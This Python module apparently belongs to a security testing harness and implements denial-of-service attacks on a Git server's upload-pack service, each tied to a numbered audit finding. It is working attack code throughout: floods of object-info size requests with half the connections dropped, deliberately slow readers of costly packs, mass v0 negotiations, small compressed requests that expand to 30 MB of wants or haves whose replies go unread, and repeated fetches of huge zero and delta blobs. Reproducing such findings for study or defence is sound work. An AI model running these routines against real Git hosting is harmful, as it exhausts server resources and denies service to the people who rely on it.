"""Attacks on what is computed for clients: turns, negotiation, memory for what waits."""

import itertools

from attacks import stage, wire


def tip(name, ref="main"):
    return stage.git(stage.upstream(name), "rev-parse", ref)


def history(name, count):
    return stage.git(stage.upstream(name), "rev-list", f"-{count}", "main").split("\n")


def sizes(attack):
    """Finding 1: ten thousand sizes at once; half of those who ask hang up."""
    request = wire.command("object-info", "size", *(f"oid {oid}" for oid in attack.given["oids"]))
    asked = []
    while attack.goes_on():
        for n in range(8):
            with attack.tolerant():
                s = wire.talk(attack.address(), attack.git_port, "rewritten", 2)
                s.sendall(request)
                if n % 2:
                    s.close()
                else:
                    asked.append(s)
        asked = asked[-32:]
        attack.pause(1)


def slow_fetch(attack, n):
    """A fetch that is like no other."""
    s = wire.talk(attack.address(), attack.git_port, "blobs", 2, window=64 << 10)
    s.sendall(
        wire.command(
            "fetch", f"want {attack.given['blobs']}", f"filter blob:limit={100 + n}m", "ofs-delta", "done"
        )
    )
    return s


def slow_readers(attack):
    """Finding 2: large answers, no two alike, read at 65 KB a second."""
    readers, numbers = [], itertools.count(attack.number * 10_000)
    while attack.goes_on():
        while len(readers) < 16:
            with attack.tolerant():
                readers.append(slow_fetch(attack, next(numbers)))
                continue
            break
        for _ in range(4):
            readers = [s for s in readers if wire.read_some(s, 32 << 10) is not None]
            attack.pause(0.5)


def early_negotiation(attack):
    """Finding 3: sixty conversations of v0, each with 65 haves and as many of an unknown object."""
    lines = [
        f"have {oid}\nhave {7:040x}\n".split("\n")[:2] for oid in [attack.given["old"], *attack.given["oids"]]
    ]
    request = wire.pkt(f"want {attack.given['main']} multi_ack_detailed side-band-64k ofs-delta\n") + b"0000"
    request += b"".join(wire.pkt(line + "\n") for pair in lines for line in pair)
    while attack.goes_on():
        asked = []
        for _ in range(60):
            with attack.tolerant():
                s = wire.talk(attack.address(), attack.git_port, "rewritten", 0)
                s.sendall(request)
                asked.append(s)
        attack.pause(2)


def waiting(attack):
    """Finding 5: requests of 90 KB, 30 MB once unpacked, wait for turns while slow readers have all."""
    main = attack.given["rewritten"]
    lines = [wire.command("fetch", *[f"want {main}"] * 590_000, f"deepen {n + 2}", "done") for n in range(4)]
    requests = [wire.post("/rewritten/git-upload-pack", line, packed=True) for line in lines]
    readers, asked = [], []
    for n in range(8):
        with attack.tolerant():
            readers.append(slow_fetch(attack, attack.number * 10_000 + n))
    while attack.goes_on():
        for n in range(20):
            with attack.tolerant():
                s = wire.connect(attack.address(), attack.http_port)
                s.sendall(requests[n % 4])
                asked.append(s)
        asked = [s for s in asked[-100:] if wire.is_open(s)]
        readers = [s for s in readers if wire.read_some(s, 64 << 10) is not None]
        attack.pause(1)


def acknowledged(attack):
    """Finding 5: 600,000 haves in 90 KB, whose acknowledgements, 30 MB, nobody reads."""
    body = wire.command("fetch", "wait-for-done", *[f"have {attack.given['rewritten']}"] * 590_000)
    request, asked = wire.post("/rewritten/git-upload-pack", body, packed=True), []
    while attack.goes_on() and len(asked) < 250:
        with attack.tolerant():
            s = wire.connect(attack.address(), attack.http_port, window=4096)
            s.sendall(request)
            asked.append(s)
        attack.pause(0.1)
    attack.rest()


def zeros(attack):
    """Finding 12: four clients fetch the second of two versions of a blob of 512 MiB zeros, over and over."""
    new, old = attack.given["zeros"]
    for n in itertools.count():
        if not attack.goes_on():
            return
        clients = []
        for k in range(4):
            with attack.tolerant():
                clients.append(wire.talk(attack.address(), attack.git_port, "zeros", 2))
                # In turns as a delta of what the client has, and whole.
                has = [f"have {old}", "thin-pack"] if k % 2 else []
                clients[-1].sendall(
                    wire.command(
                        "fetch",
                        f"want {new}",
                        *has,
                        f"filter blob:limit={4000 + 4 * n + k}m",
                        "ofs-delta",
                        "done",
                    )
                )
        for s in clients:
            with attack.tolerant():
                wire.drain(s, attack.until)
                s.close()
        attack.pause(0.1)


def deltas(attack):
    """Finding 12: four clients who fetch, without what it is a delta of, a blob of 400 MiB noise."""
    for n in itertools.count():
        if not attack.goes_on():
            return
        clients = []
        for k in range(4):
            with attack.tolerant():
                s = wire.talk(attack.address(), attack.git_port, "deltas", 2)
                s.sendall(
                    wire.command(
                        "fetch",
                        f"want {attack.given['deltas']}",
                        "deepen 1",
                        f"filter blob:limit={4000 + 4 * n + k}m",
                        "ofs-delta",
                        "done",
                    )
                )
                clients.append(s)
        # They stay for what is worked out, and read none of it.
        attack.pause(5)


def prepare_sizes():
    return {"oids": history("rewritten", 10_000)}


def prepare_negotiation():
    return {
        "main": tip("rewritten"),
        "old": tip("rewritten", "old"),
        "oids": history("rewritten", 100_000)[len(history("rewritten", 100_000)) // 3 :][:64],
    }


def prepare_waiting():
    return {"blobs": tip("blobs"), "rewritten": tip("rewritten")}


ATTACKS = [
    ("sizes", "1: sizes of 10,000 objects, half hung up", sizes, ["rewritten"], prepare_sizes, 1),
    (
        "slow",
        "2: computed packs read at 65 KB/s",
        slow_readers,
        ["blobs"],
        lambda: {"blobs": tip("blobs")},
        1,
    ),
    (
        "negotiation",
        "3: negotiation of v0, 60 at once",
        early_negotiation,
        ["rewritten"],
        prepare_negotiation,
        1,
    ),
    (
        "waiting",
        "5: 30 MB of wants in 90 KB, waiting for turns",
        waiting,
        ["blobs", "rewritten"],
        prepare_waiting,
        1,
    ),
    (
        "acknowledged",
        "5: 600,000 haves in 90 KB, acknowledgements not read",
        acknowledged,
        ["rewritten"],
        lambda: {"rewritten": tip("rewritten")},
        1,
    ),
    (
        "zeros",
        "12: a blob of 512 MiB zeros, four times at once",
        zeros,
        ["zeros"],
        lambda: {"zeros": [tip("zeros"), tip("zeros", "main~1")]},
        1,
    ),
    (
        "deltas",
        "12: a delta of 400 MiB noise without its base",
        deltas,
        ["deltas"],
        lambda: {"deltas": tip("deltas")},
        1,
    ),
]
